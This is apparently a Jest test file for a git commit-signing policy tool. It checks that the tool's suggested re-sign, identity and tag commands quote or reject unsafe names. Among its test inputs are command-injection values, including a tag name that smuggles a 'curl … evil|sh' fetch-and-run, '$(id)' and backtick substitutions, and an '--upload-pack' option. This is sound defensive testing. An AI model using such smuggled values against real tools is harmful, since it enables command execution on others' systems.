import { describe, expect, it } from "@jest/globals";
import { execFileSync } from "node:child_process";
import { identityCommand, resignCommand, shellWord, shortTag, tagCommand } from "../../../src/policy/fixes.ts";
import { commit, identity, oid, ref } from "../../support/decisions.ts";

const merge = commit({ parents: [oid("d"), oid("e")] });

describe("resignCommand", () => {
  it("amends the tip", () => {
    expect(resignCommand(commit(), { base: "main", tip: true })).toBe("git commit --amend --no-edit -S");
    expect(resignCommand(merge, { base: "main", tip: true })).toBe("git commit --amend --no-edit -S");
  });
  it("tells git that a commit which changes nothing may stay empty", () => {
    expect(resignCommand(commit(), { base: "main", tip: true, empty: true })).toBe(
      "git commit --amend --no-edit --allow-empty -S",
    );
  });
  it("rebases what lies deeper onto the base", () => {
    expect(resignCommand(commit(), { base: "origin/main" })).toBe("git rebase -f -S origin/main");
    expect(resignCommand(merge, { base: "origin/main" })).toBe("signpolicy resign origin/main");
    expect(resignCommand(commit(), { base: "b", merges: true })).toBe("signpolicy resign b");
  });
  it("starts at the commit's own parent where nobody names a base", () => {
    expect(resignCommand(commit(), undefined)).toBe("git rebase -f -S dddddddddddd");
    expect(resignCommand(commit(), { base: null })).toBe("git rebase -f -S dddddddddddd");
    expect(resignCommand(commit(), { base: "-x" })).toBe("git rebase -f -S BASE");
    expect(resignCommand(commit({ parents: [] }), undefined)).toBe("git rebase -f -S --root");
  });
});

describe("a commit that is not made yet", () => {
  const unmade = { base: null, unmade: true } as const;

  it("is made again, and nothing is rewritten for it", () => {
    expect(resignCommand(commit({ parents: [] }), unmade)).toBe("commit again");
    expect(identityCommand(commit(), unmade, "alice@example.org", false)).toBe(
      "git config user.email alice@example.org, then commit again",
    );
    expect(identityCommand(commit(), unmade, "alice@example.org", true)).not.toMatch(/rebase|amend/);
  });
});

describe("identityCommand", () => {
  const mail = "alice@example.org";
  it("sets the e-mail, then amends the tip or rebases", () => {
    expect(identityCommand(commit(), { base: "main", tip: true }, mail, true)).toBe(
      "git config user.email alice@example.org && git commit --amend --no-edit --reset-author -S",
    );
    expect(identityCommand(commit(), { base: "main", tip: true }, mail, false)).toBe(
      "git config user.email alice@example.org && git commit --amend --no-edit -S",
    );
    expect(identityCommand(commit(), { base: "main" }, mail, false)).toBe(
      "git config user.email alice@example.org && git rebase -f -S main",
    );
    expect(identityCommand(merge, { base: "main" }, mail, false)).toBe(
      "git config user.email alice@example.org && signpolicy resign --others main",
    );
    expect(identityCommand(commit(), { base: "main" }, mail, true)).toBe(
      "git config user.email alice@example.org && git rebase -x 'git commit --amend --no-edit --reset-author --allow-empty -S' main",
    );
    expect(identityCommand(commit(), { base: "main", tip: true, empty: true }, mail, true)).toBe(
      "git config user.email alice@example.org && git commit --amend --no-edit --reset-author --allow-empty -S",
    );
  });
  it("keeps an odd e-mail from being more than a word", () => {
    expect(identityCommand(commit(), { base: "main", tip: true }, "a;id@x", false)).toContain("user.email 'a;id@x' &&");
    expect(
      identityCommand(commit({ author: identity("x") }), { base: "main", tip: true }, "\u00e4@x", false),
    ).toContain("E-MAIL");
  });
});

describe("tagCommand", () => {
  it("signs the tag anew under its full name", () => {
    expect(tagCommand(ref("refs/tags/release/v1"))).toBe("git tag -f -s release/v1 release/v1^{}");
    expect(shortTag(ref("refs/tags/release/v1"))).toBe("release/v1");
    expect(shortTag(ref("refs/other/v1"))).toBe("refs/other/v1");
  });
  it.each(["refs/tags/v1;curl${IFS}evil|sh", "refs/tags/$(id)", "refs/tags/`id`", "refs/tags/a'b\"c", "refs/tags/a&b"])(
    "quotes what a shell would run: %s",
    (name) => {
      const word = execFileSync("/bin/sh", ["-c", `printf %s ${tagCommand(ref(name)).split(" ")[4] ?? ""}`], {
        encoding: "utf8",
      });
      expect(word).toBe(name.slice("refs/tags/".length));
    },
  );
  it.each(["refs/tags/-f", "refs/tags/\x1b[31m", "refs/tags/v\xe9"])(
    "names no tag that no plain word names: %j",
    (name) => {
      expect(tagCommand(ref(name))).toBe("git tag -f -s NAME NAME^{}");
    },
  );
});

describe("shellWord", () => {
  it("leaves plain words alone and refuses options and nothing", () => {
    expect(shellWord("v1.0-rc+1")).toBe("v1.0-rc+1");
    expect(shellWord("two words")).toBe("'two words'");
    expect(shellWord("it's")).toBe("'it'\\''s'");
    expect(shellWord("--upload-pack=x")).toBeNull();
    expect(shellWord("")).toBeNull();
  });
});
